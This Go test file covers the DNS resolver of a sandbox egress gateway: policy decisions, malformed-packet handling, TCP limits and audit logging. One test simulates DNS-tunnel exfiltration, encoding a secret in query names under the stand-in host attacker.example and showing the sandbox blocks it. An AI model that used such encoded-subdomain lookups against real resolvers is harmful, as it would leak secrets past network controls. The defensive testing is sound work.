package dns

import (
	"context"
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	mdns "github.com/miekg/dns"

	"github.com/cordon-sandbox/cordon/internal/audit"
	"github.com/cordon-sandbox/cordon/internal/egress"
	"github.com/cordon-sandbox/cordon/internal/egress/names"
	"github.com/cordon-sandbox/cordon/internal/policy"
)

// The gateway hands the server its egress.Policy and egress.Names; these must fit.
var (
	_ Policy    = egress.Policy(nil)
	_ Names     = egress.Names(nil)
	_ Explainer = (*policy.NetMatcher)(nil)
)

// sloppyPolicy knows api.example.com and, like a careless matcher would, anything ending in
// ".wild.example", whatever comes before. The server must not depend on the policy being careful.
type sloppyPolicy struct {
	mu    sync.Mutex
	asked []string
}

func (p *sloppyPolicy) Known(host string) bool {
	p.mu.Lock()
	p.asked = append(p.asked, host)
	p.mu.Unlock()
	return host == "api.example.com" || strings.HasSuffix(host, ".wild.example")
}

// events is an audit.Recorder that keeps what it is given.
type events struct {
	mu sync.Mutex
	ev []audit.Event
}

func (e *events) Record(ev audit.Event) {
	e.mu.Lock()
	e.ev = append(e.ev, ev)
	e.mu.Unlock()
}

func (e *events) all() []audit.Event {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Clone(e.ev)
}

func (e *events) last() audit.Event {
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.ev) == 0 {
		return audit.Event{}
	}
	return e.ev[len(e.ev)-1]
}

type testServer struct {
	*Server
	udp, tcp string
	names    *names.Mapper
	rec      *events
	cancel   context.CancelFunc
	done     chan error
}

// start serves on fresh loopback sockets, as the gateway would on sockets inside the sandbox.
func start(t *testing.T, pol Policy, mod func(*Config)) *testServer {
	t.Helper()
	nm, err := names.New()
	if err != nil {
		t.Fatal(err)
	}
	rec := &events{}
	cfg := Config{Policy: pol, Names: nm, Recorder: rec, Hostname: "Box"}
	if mod != nil {
		mod(&cfg)
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	ts := &testServer{Server: s, udp: pc.LocalAddr().String(), tcp: l.Addr().String(), names: nm, rec: rec, cancel: cancel, done: make(chan error, 1)}
	go func() { ts.done <- s.Serve(ctx, pc, l) }()
	t.Cleanup(func() {
		cancel()
		if err := <-ts.done; err != nil {
			t.Errorf("Serve: %v", err)
		}
	})
	return ts
}

func exchange(t *testing.T, ts *testServer, proto string, m *mdns.Msg) *mdns.Msg {
	t.Helper()
	c := &mdns.Client{Net: proto, Timeout: 5 * time.Second}
	addr := ts.udp
	if proto == "tcp" {
		addr = ts.tcp
	}
	r, _, err := c.Exchange(m, addr)
	if err != nil {
		t.Fatalf("%s exchange: %v", proto, err)
	}
	if r.Id != m.Id || !r.Response {
		t.Fatalf("reply id %d response %v to query %d", r.Id, r.Response, m.Id)
	}
	return r
}

func query(name string, qtype uint16) *mdns.Msg {
	m := new(mdns.Msg)
	m.SetQuestion(name, qtype)
	return m
}

func TestAnswers(t *testing.T) {
	pol := &sloppyPolicy{}
	ts := start(t, pol, nil)
	api4, api6, _ := ts.names.Assign("api.example.com")
	loop4, loop6 := netip.MustParseAddr("127.0.0.1"), netip.IPv6Loopback()
	tests := []struct {
		name  string
		qtype uint16
		rcode int
		want  netip.Addr // zero: no answer
		event audit.Decision
	}{
		{"api.example.com.", mdns.TypeA, mdns.RcodeSuccess, api4, audit.Allow},
		{"api.example.com.", mdns.TypeAAAA, mdns.RcodeSuccess, api6, audit.Allow},
		{"API.Example.COM.", mdns.TypeA, mdns.RcodeSuccess, api4, audit.Allow},
		{"api.example.com.", mdns.TypeTXT, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"api.example.com.", mdns.TypeMX, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"api.example.com.", mdns.TypeSRV, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"api.example.com.", mdns.TypeANY, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"api.example.com.", mdns.TypeHTTPS, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"api.example.com.", mdns.TypeCNAME, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"c2VjcmV0.attacker.example.", mdns.TypeA, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{"c2VjcmV0.attacker.example.", mdns.TypeTXT, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{"c2VjcmV0.attacker.example.", mdns.TypeANY, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{"example.com.", mdns.TypeA, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{"localhost.", mdns.TypeA, mdns.RcodeSuccess, loop4, audit.Allow},
		{"localhost.", mdns.TypeAAAA, mdns.RcodeSuccess, loop6, audit.Allow},
		{"localhost.", mdns.TypeMX, mdns.RcodeSuccess, netip.Addr{}, audit.Allow},
		{"db.localhost.", mdns.TypeA, mdns.RcodeSuccess, loop4, audit.Allow},
		{"box.", mdns.TypeA, mdns.RcodeSuccess, loop4, audit.Allow},
		// Not plain host names: refused before the (sloppy) policy could say yes.
		{`a\.b.wild.example.`, mdns.TypeA, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{`a\000.wild.example.`, mdns.TypeA, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{`*.wild.example.`, mdns.TypeA, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{`caf\195\169.wild.example.`, mdns.TypeA, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
		{`.`, mdns.TypeNS, mdns.RcodeNameError, netip.Addr{}, audit.Deny},
	}
	for _, proto := range []string{"udp", "tcp"} {
		for _, tt := range tests {
			t.Run(proto+"/"+tt.name+"/"+mdns.TypeToString[tt.qtype], func(t *testing.T) {
				r := exchange(t, ts, proto, query(tt.name, tt.qtype))
				if r.Rcode != tt.rcode {
					t.Fatalf("rcode %s, want %s", mdns.RcodeToString[r.Rcode], mdns.RcodeToString[tt.rcode])
				}
				if len(r.Question) != 1 || r.Question[0].Name != tt.name {
					t.Errorf("question not echoed as asked: %v", r.Question)
				}
				if !r.RecursionAvailable {
					t.Error("RA not set: Go's resolver takes an empty answer without RA or AA as a lame referral")
				}
				var got netip.Addr
				switch {
				case len(r.Answer) > 1:
					t.Fatalf("%d answers", len(r.Answer))
				case len(r.Answer) == 1:
					h := r.Answer[0].Header()
					if h.Name != tt.name || h.Ttl != 5 || h.Rrtype != tt.qtype {
						t.Errorf("answer header %+v", h)
					}
					switch a := r.Answer[0].(type) {
					case *mdns.A:
						got, _ = netip.AddrFromSlice(a.A)
					case *mdns.AAAA:
						got, _ = netip.AddrFromSlice(a.AAAA)
					}
				}
				if got.Unmap() != tt.want {
					t.Errorf("answer %v, want %v", got, tt.want)
				}
				ev := ts.rec.last()
				if ev.Kind != audit.KindDNS || ev.Decision != tt.event || ev.Detail["qtype"] != mdns.TypeToString[tt.qtype] ||
					ev.Detail["rcode"] != mdns.RcodeToString[tt.rcode] || ev.Detail["transport"] != proto {
					t.Errorf("audit event %+v", ev)
				}
			})
		}
	}
	pol.mu.Lock()
	asked := slices.Clone(pol.asked)
	pol.mu.Unlock()
	for _, h := range asked {
		if c, ok := hostName(h); !ok || c != h {
			t.Errorf("the server asked the policy about %q, which is not a plain host name", h)
		}
	}
	// The refusals above are the server's doing: the policy itself would have said yes.
	for _, weird := range []string{`a\.b.wild.example`, `a\000.wild.example`, "*.wild.example", `caf\195\169.wild.example`} {
		if !pol.Known(weird) {
			t.Fatalf("the sloppy policy should know %q, or the test proves nothing", weird)
		}
	}
	// Nothing but the known name got an address: denied names use up no mapping.
	if ts.names.Len() != 1 {
		t.Errorf("%d names mapped, want 1", ts.names.Len())
	}
}

// TestGoResolver uses Go's own stub resolver, over UDP and over TCP, as a program inside would.
func TestGoResolver(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, nil)
	for _, proto := range []string{"udp", "tcp"} {
		t.Run(proto, func(t *testing.T) {
			r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
				var d net.Dialer
				if proto == "tcp" {
					return d.DialContext(ctx, "tcp", ts.tcp)
				}
				return d.DialContext(ctx, "udp", ts.udp)
			}}
			ctx := context.Background()
			addrs, err := r.LookupNetIP(ctx, "ip", "x.WILD.example.")
			if err != nil {
				t.Fatal(err)
			}
			v4, v6, _ := ts.names.Assign("x.wild.example")
			if !slices.Contains(addrs, v4) || !slices.Contains(addrs, v6) || len(addrs) != 2 {
				t.Errorf("LookupNetIP = %v, want %v and %v", addrs, v4, v6)
			}
			var de *net.DNSError
			if _, err := r.LookupHost(ctx, "c2VjcmV0.attacker.example."); !errors.As(err, &de) || !de.IsNotFound {
				t.Errorf("denied name: %v, want not found", err)
			}
			if txt, err := r.LookupTXT(ctx, "api.example.com."); err == nil && len(txt) > 0 {
				t.Errorf("TXT of a known name: %v", txt)
			}
			if _, err := r.LookupMX(ctx, "c2VjcmV0.attacker.example."); !errors.As(err, &de) || !de.IsNotFound {
				t.Errorf("MX of a denied name: %v, want not found", err)
			}
			if a, err := r.LookupHost(ctx, "localhost."); err != nil || !slices.Contains(a, "127.0.0.1") {
				t.Errorf("localhost: %v %v", a, err)
			}
		})
	}
}

// upstream is a DNS server standing for the internet's resolvers; it counts what reaches it.
type upstream struct {
	mu      sync.Mutex
	queries []string
	addr    string
}

func startUpstream(t *testing.T) *upstream {
	t.Helper()
	u := &upstream{}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u.addr = pc.LocalAddr().String()
	started := make(chan struct{})
	srv := &mdns.Server{PacketConn: pc, NotifyStartedFunc: func() { close(started) },
		Handler: mdns.HandlerFunc(func(w mdns.ResponseWriter, r *mdns.Msg) {
			u.mu.Lock()
			for _, q := range r.Question {
				u.queries = append(u.queries, q.Name)
			}
			u.mu.Unlock()
			m := new(mdns.Msg)
			m.SetRcode(r, mdns.RcodeNameError)
			_ = w.WriteMsg(m)
		})}
	go func() { _ = srv.ActivateAndServe() }()
	<-started
	t.Cleanup(func() { _ = srv.Shutdown() })
	return u
}

func (u *upstream) seen() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return slices.Clone(u.queries)
}

func resolverTo(addr string) *net.Resolver {
	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp", addr)
	}}
}

// TestTunnelCarriesNothingOut: a secret encoded in a denied name reaches no upstream, whatever the
// record type, while the very same lookups pointed at a resolver that forwards do deliver it.
func TestTunnelCarriesNothingOut(t *testing.T) {
	up := startUpstream(t)
	ctx := context.Background()
	secret := "c2VjcmV0LXRva2VuLTEyMzQ.attacker.example."
	probe := func(r *net.Resolver) {
		r.LookupHost(ctx, secret)
		r.LookupTXT(ctx, "txt."+secret)
		r.LookupMX(ctx, "mx."+secret)
		r.LookupHost(ctx, "api.example.com.")
	}

	// Without cordon: the probe's queries arrive upstream, secret and all.
	probe(resolverTo(up.addr))
	if seen := up.seen(); !slices.Contains(seen, secret) || !slices.Contains(seen, "txt."+secret) {
		t.Fatalf("control: upstream saw %v; the probe does not exfiltrate, so the test proves nothing", seen)
	}
	before := len(up.seen())

	ts := start(t, &sloppyPolicy{}, nil)
	probe(resolverTo(ts.udp))
	c := &mdns.Client{Net: "tcp", Timeout: 5 * time.Second}
	for _, qt := range []uint16{mdns.TypeA, mdns.TypeTXT, mdns.TypeANY, mdns.TypeSRV, mdns.TypeNULL} {
		if r, _, err := c.Exchange(query(secret, qt), ts.tcp); err != nil || r.Rcode != mdns.RcodeNameError {
			t.Errorf("%s over TCP: %v %v", mdns.TypeToString[qt], r, err)
		}
	}
	if seen := up.seen(); len(seen) != before {
		t.Errorf("upstream got %v through cordon's DNS", seen[before:])
	}
	denied := 0
	for _, ev := range ts.rec.all() {
		if strings.HasSuffix(ev.Name, "attacker.example") {
			if ev.Decision != audit.Deny {
				t.Errorf("tunnel query not denied: %+v", ev)
			}
			denied++
		}
	}
	if denied < 8 {
		t.Errorf("%d denied tunnel queries in the audit log, want at least 8", denied)
	}
}

// rawExchange sends raw over UDP, then a valid query, and returns the first reply to raw (nil if the
// server ignored it: then the first reply is the valid query's). No timing is involved.
func rawExchange(t *testing.T, ts *testServer, raw []byte) *mdns.Msg {
	t.Helper()
	c, err := net.Dial("udp", ts.udp)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write(raw); err != nil {
		t.Fatal(err)
	}
	marker := query("localhost.", mdns.TypeA)
	marker.Id = 0xbeef
	mb, _ := marker.Pack()
	if _, err := c.Write(mb); err != nil {
		t.Fatal(err)
	}
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 65535)
	n, err := c.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	r := new(mdns.Msg)
	if err := r.Unpack(buf[:n]); err != nil {
		t.Fatalf("reply does not parse: %v", err)
	}
	if r.Id == 0xbeef && r.Question != nil && r.Question[0].Name == "localhost." {
		return nil
	}
	return r
}

func packed(t *testing.T, m *mdns.Msg) []byte {
	t.Helper()
	b, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestMalformed(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, nil)
	valid := func() *mdns.Msg { m := query("api.example.com.", mdns.TypeA); m.Id = 0x1234; return m }
	withOpcode := func(op int) []byte { m := valid(); m.Opcode = op; return packed(t, m) }
	patch := func(b []byte, off int, v uint16) []byte {
		b = slices.Clone(b)
		binary.BigEndian.PutUint16(b[off:], v)
		return b
	}
	base := packed(t, valid())
	twoQ := valid()
	twoQ.Question = append(twoQ.Question, twoQ.Question[0])
	withAnswer := valid()
	withAnswer.Answer = []mdns.RR{&mdns.A{Hdr: mdns.RR_Header{Name: "x.", Rrtype: mdns.TypeA, Class: mdns.ClassINET}, A: net.IPv4(1, 2, 3, 4)}}
	twoOPT := valid()
	twoOPT.SetEdns0(1232, false)
	twoOPT.SetEdns0(1232, false)
	notOPT := valid()
	notOPT.Extra = withAnswer.Answer
	badVers := valid()
	badVers.SetEdns0(1232, false)
	badVers.IsEdns0().SetVersion(1)
	chaos := valid()
	chaos.Question[0] = mdns.Question{Name: "version.bind.", Qtype: mdns.TypeTXT, Qclass: mdns.ClassCHAOS}
	// A question whose name is "x" followed by a pointer to itself: a compression loop.
	loop := append(slices.Clone(base[:12]), 1, 'x', 0xC0, 12, 0, 1, 0, 1)
	// A forward pointer past the end of the message.
	past := append(slices.Clone(base[:12]), 0xC0, 0xFF, 0, 1, 0, 1)
	response := valid()
	response.Response = true

	tests := []struct {
		name   string
		raw    []byte
		rcode  int // -1: no reply at all
		reason string
	}{
		{"empty", nil, -1, "shorter than a DNS header"},
		{"short", base[:11], -1, "shorter than a DNS header"},
		{"a response", packed(t, response), -1, "a response, not a query"},
		{"opcode NOTIFY", withOpcode(mdns.OpcodeNotify), mdns.RcodeNotImplemented, "opcode NOTIFY"},
		{"opcode UPDATE", withOpcode(mdns.OpcodeUpdate), mdns.RcodeNotImplemented, "opcode UPDATE"},
		{"opcode STATUS", withOpcode(mdns.OpcodeStatus), mdns.RcodeNotImplemented, "opcode STATUS"},
		{"opcode 15", withOpcode(15), mdns.RcodeNotImplemented, "opcode OPCODE15"},
		{"no question", patch(base, 4, 0), mdns.RcodeFormatError, "0 questions"},
		{"two questions", packed(t, twoQ), mdns.RcodeFormatError, "2 questions"},
		{"question count lies", patch(base[:12], 4, 1), mdns.RcodeFormatError, "malformed query"},
		{"answer in a query", packed(t, withAnswer), mdns.RcodeFormatError, "answer or authority"},
		{"two OPT", packed(t, twoOPT), mdns.RcodeFormatError, "extra records"},
		{"extra count lies", patch(base, 10, 1), mdns.RcodeFormatError, "header counts do not match"},
		{"extra record not OPT", packed(t, notOPT), mdns.RcodeFormatError, "other than OPT"},
		{"EDNS version 1", packed(t, badVers), mdns.RcodeBadVers, "EDNS version 1"},
		{"class CHAOS", packed(t, chaos), mdns.RcodeRefused, "class CH"},
		{"compression loop", loop, mdns.RcodeFormatError, "malformed query"},
		{"pointer past the end", past, mdns.RcodeFormatError, "malformed query"},
		{"truncated question", base[:len(base)-3], mdns.RcodeFormatError, "malformed query"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := rawExchange(t, ts, tt.raw)
			switch {
			case tt.rcode < 0 && r != nil:
				t.Fatalf("answered %v; want no reply", r)
			case tt.rcode >= 0 && r == nil:
				t.Fatal("no reply")
			case r != nil && (r.Rcode != tt.rcode || r.Id != 0x1234 || !r.Response || len(r.Answer) != 0):
				t.Fatalf("reply %v; want %s for id 0x1234", r, rcodeName(tt.rcode))
			}
			var ev audit.Event
			for _, e := range ts.rec.all() {
				if strings.Contains(e.Reason, tt.reason) {
					ev = e
				}
			}
			if ev.Decision != audit.Deny {
				t.Errorf("no deny event with reason %q in %+v", tt.reason, ts.rec.all())
			}
		})
	}
}

// TestCompressedQuestion: a question name that ends in a compression pointer (here to a zero byte of
// the header, the root) is the same name as its plain spelling.
func TestCompressedQuestion(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, nil)
	hdr := packed(t, query("x.", mdns.TypeA))[:12] // ARCOUNT 0: offset 11 holds a zero byte
	raw := append(slices.Clone(hdr), 3, 'A', 'p', 'I', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0xC0, 11, 0, 1, 0, 1)
	r := rawExchange(t, ts, raw)
	want, _, _ := ts.names.Assign("api.example.com")
	if r == nil || r.Rcode != mdns.RcodeSuccess || len(r.Answer) != 1 || !r.Answer[0].(*mdns.A).A.Equal(want.AsSlice()) {
		t.Fatalf("reply %v, want A %v", r, want)
	}
	if r.Answer[0].Header().Name != "ApI.example.com." {
		t.Errorf("owner %q, want the question's spelling", r.Answer[0].Header().Name)
	}
}

func TestEDNS(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, nil)
	m := query("api.example.com.", mdns.TypeA)
	m.SetEdns0(4096, true)
	r := exchange(t, ts, "udp", m)
	opt := r.IsEdns0()
	if opt == nil || opt.UDPSize() != ednsSize || opt.Do() || len(r.Answer) != 1 {
		t.Errorf("reply %v: want an OPT of size %d without DO", r, ednsSize)
	}
	if r := exchange(t, ts, "udp", query("api.example.com.", mdns.TypeA)); r.IsEdns0() != nil {
		t.Error("OPT in the reply to a query without one")
	}
}

// TestWithNetMatcher runs the server with the real policy matcher: wildcard, apex, deny, and the rule
// each audit event names.
func TestWithNetMatcher(t *testing.T) {
	n := &policy.Network{
		Allow: []policy.Endpoint{{Host: "api.example.com"}, {Host: "*.wild.example", Ports: []uint16{22}}},
		Deny:  []string{"bad.wild.example"},
	}
	m, err := n.Matcher(nil)
	if err != nil {
		t.Fatal(err)
	}
	ts := start(t, m, nil)
	tests := []struct {
		name  string
		rcode int
		rule  string
	}{
		{"api.example.com.", mdns.RcodeSuccess, `network.allow[0] "api.example.com" ports [443]`},
		{"a.b.wild.example.", mdns.RcodeSuccess, `network.allow[1] "*.wild.example" ports [22]`},
		{"wild.example.", mdns.RcodeNameError, "default"},
		{"bad.wild.example.", mdns.RcodeNameError, `network.deny[0] "bad.wild.example"`},
		{"other.example.", mdns.RcodeNameError, "default"},
	}
	for _, tt := range tests {
		r := exchange(t, ts, "udp", query(tt.name, mdns.TypeA))
		if r.Rcode != tt.rcode {
			t.Errorf("%s: %s", tt.name, mdns.RcodeToString[r.Rcode])
		}
		if ev := ts.rec.last(); ev.Rule != tt.rule || ev.Name != strings.TrimSuffix(tt.name, ".") {
			t.Errorf("%s: event %+v, want rule %q", tt.name, ev, tt.rule)
		}
	}
}

func TestExhaustedRange(t *testing.T) {
	small, err := names.NewRanges(netip.MustParsePrefix("10.77.0.0/30"), netip.Prefix{})
	if err != nil {
		t.Fatal(err)
	}
	ts := start(t, &sloppyPolicy{}, func(c *Config) { c.Names = small })
	for i, name := range []string{"a.wild.example.", "b.wild.example.", "c.wild.example."} {
		r := exchange(t, ts, "udp", query(name, mdns.TypeA))
		if want := mdns.RcodeSuccess; i == 2 {
			want = mdns.RcodeServerFailure
			if r.Rcode != want || ts.rec.last().Decision != audit.Deny {
				t.Errorf("%s: %s, event %+v; want SERVFAIL and a denial", name, mdns.RcodeToString[r.Rcode], ts.rec.last())
			}
		} else if r.Rcode != want {
			t.Errorf("%s: %s", name, mdns.RcodeToString[r.Rcode])
		}
	}
	// A known name without an IPv6 range gets an empty AAAA answer, not an error.
	if r := exchange(t, ts, "udp", query("a.wild.example.", mdns.TypeAAAA)); r.Rcode != mdns.RcodeSuccess || len(r.Answer) != 0 {
		t.Errorf("AAAA without an IPv6 range: %v", r)
	}
}

func TestTCPConnections(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, func(c *Config) { c.IdleTimeout = 200 * time.Millisecond })

	// Two pipelined queries on one connection are both answered, in order.
	c, err := net.Dial("tcp", ts.tcp)
	if err != nil {
		t.Fatal(err)
	}
	var out []byte
	for i, n := range []string{"api.example.com.", "nope.example."} {
		m := query(n, mdns.TypeA)
		m.Id = uint16(100 + i)
		b := packed(t, m)
		out = append(append(out, byte(len(b)>>8), byte(len(b))), b...)
	}
	if _, err := c.Write(out); err != nil {
		t.Fatal(err)
	}
	mc := &mdns.Conn{Conn: c}
	for i, rc := range []int{mdns.RcodeSuccess, mdns.RcodeNameError} {
		r, err := mc.ReadMsg()
		if err != nil || r.Id != uint16(100+i) || r.Rcode != rc {
			t.Fatalf("pipelined reply %d: %v %v", i, r, err)
		}
	}
	// Idle: the server closes the connection.
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Read(make([]byte, 1)); err == nil {
		t.Error("idle connection still open")
	}
	c.Close()

	// A zero-length message ends the connection.
	c, _ = net.Dial("tcp", ts.tcp)
	c.Write([]byte{0, 0})
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Read(make([]byte, 1)); err == nil {
		t.Error("connection open after a zero-length message")
	}
	c.Close()
}

func TestTCPConnectionLimit(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, nil)
	var held []net.Conn
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	for i := range MaxTCPConns {
		c, err := net.Dial("tcp", ts.tcp)
		if err != nil {
			t.Fatal(err)
		}
		held = append(held, c)
		// An answer proves the server took this connection into a slot.
		mc := &mdns.Conn{Conn: c}
		m := query("api.example.com.", mdns.TypeA)
		m.Id = uint16(i)
		if err := mc.WriteMsg(m); err != nil {
			t.Fatal(err)
		}
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		if r, err := mc.ReadMsg(); err != nil || r.Id != uint16(i) {
			t.Fatalf("connection %d: %v %v", i, r, err)
		}
	}
	// One more is accepted by the kernel but closed by the server at once; were it served instead,
	// the read below would time out.
	extra, err := net.Dial("tcp", ts.tcp)
	if err != nil {
		t.Fatal(err)
	}
	defer extra.Close()
	extra.SetReadDeadline(time.Now().Add(2 * time.Second))
	var ne net.Error
	if _, err := extra.Read(make([]byte, 1)); err == nil || errors.As(err, &ne) && ne.Timeout() {
		t.Errorf("connection beyond the limit: read %v, want it closed", err)
	}
	// Freeing one slot lets a new connection in.
	held[0].Close()
	held = held[1:]
	deadline := time.Now().Add(30 * time.Second)
	for {
		r, _, err := (&mdns.Client{Net: "tcp", Timeout: 5 * time.Second}).Exchange(query("api.example.com.", mdns.TypeA), ts.tcp)
		if err == nil && r.Rcode == mdns.RcodeSuccess {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no slot freed: %v", err)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestNew(t *testing.T) {
	nm, _ := names.New()
	ok := Config{Policy: &sloppyPolicy{}, Names: nm, Recorder: &events{}}
	tests := []struct {
		name string
		mod  func(*Config)
		err  string
	}{
		{"no policy", func(c *Config) { c.Policy = nil }, "required"},
		{"no names", func(c *Config) { c.Names = nil }, "required"},
		{"no recorder", func(c *Config) { c.Recorder = nil }, "required"},
		{"bad host name", func(c *Config) { c.Hostname = "a b" }, "not a valid host name"},
		{"TTL too short", func(c *Config) { c.TTL = time.Millisecond }, "TTL"},
		{"TTL too long", func(c *Config) { c.TTL = 2 * time.Hour }, "TTL"},
	}
	for _, tt := range tests {
		c := ok
		tt.mod(&c)
		if _, err := New(c); err == nil || !strings.Contains(err.Error(), tt.err) {
			t.Errorf("%s: err = %v, want %q", tt.name, err, tt.err)
		}
	}
	if _, err := New(ok); err != nil {
		t.Errorf("valid config: %v", err)
	}
}

// TestServeStops: cancelling the context stops both loops, closes the sockets and every open TCP
// connection, and Serve returns nil.
func TestServeStops(t *testing.T) {
	nm, _ := names.New()
	s, err := New(Config{Policy: &sloppyPolicy{}, Names: nm, Recorder: &events{}})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Serve(context.Background(), nil, nil); err == nil {
		t.Error("Serve with nothing to serve succeeded")
	}
	pc, _ := net.ListenPacket("udp", "127.0.0.1:0")
	l, _ := net.Listen("tcp", "127.0.0.1:0")
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Serve(ctx, pc, l) }()
	c, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, _, err := (&mdns.Client{Timeout: 5 * time.Second}).Exchange(query("localhost.", mdns.TypeA), pc.LocalAddr().String()); err != nil {
		t.Fatal(err)
	}
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("Serve = %v after cancel", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Serve did not return after cancel")
	}
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Read(make([]byte, 1)); err == nil {
		t.Error("TCP connection open after Serve returned")
	}
	if _, err := pc.WriteTo([]byte{0}, pc.LocalAddr()); !errors.Is(err, net.ErrClosed) {
		t.Errorf("packet conn not closed: %v", err)
	}
	if _, err := l.Accept(); !errors.Is(err, net.ErrClosed) {
		t.Errorf("listener not closed: %v", err)
	}
}

// brokenListener fails the way a listener whose socket went away does.
type brokenListener struct{ net.Listener }

func (brokenListener) Accept() (net.Conn, error) { return nil, errors.New("socket gone") }

// TestServeFailsClosed: when one side fails, Serve stops the other too and reports why, so the
// gateway can end egress instead of running with half a resolver.
func TestServeFailsClosed(t *testing.T) {
	nm, _ := names.New()
	s, _ := New(Config{Policy: &sloppyPolicy{}, Names: nm, Recorder: &events{}})
	pc, _ := net.ListenPacket("udp", "127.0.0.1:0")
	l, _ := net.Listen("tcp", "127.0.0.1:0")
	done := make(chan error, 1)
	go func() { done <- s.Serve(context.Background(), pc, brokenListener{l}) }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "dns: accepting TCP: socket gone") {
			t.Errorf("Serve = %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Serve kept running with a broken listener")
	}
	if _, err := pc.WriteTo([]byte{0}, pc.LocalAddr()); !errors.Is(err, net.ErrClosed) {
		t.Errorf("UDP still served after TCP failed: %v", err)
	}
}

type panicNames struct{}

func (panicNames) Assign(string) (netip.Addr, netip.Addr, error) { panic("bug in a collaborator") }

// TestPanicIsContained: a bug reached through one query loses that answer, is logged, and leaves the
// server answering the next query.
func TestPanicIsContained(t *testing.T) {
	ts := start(t, &sloppyPolicy{}, func(c *Config) { c.Names = panicNames{} })
	if r := rawExchange(t, ts, packed(t, query("api.example.com.", mdns.TypeA))); r != nil {
		t.Errorf("answered %v", r)
	}
	found := false
	for _, e := range ts.rec.all() {
		found = found || e.Decision == audit.Deny && strings.Contains(e.Reason, "internal error answering the query: bug in a collaborator")
	}
	if !found {
		t.Errorf("no audit event for the panic: %+v", ts.rec.all())
	}
}
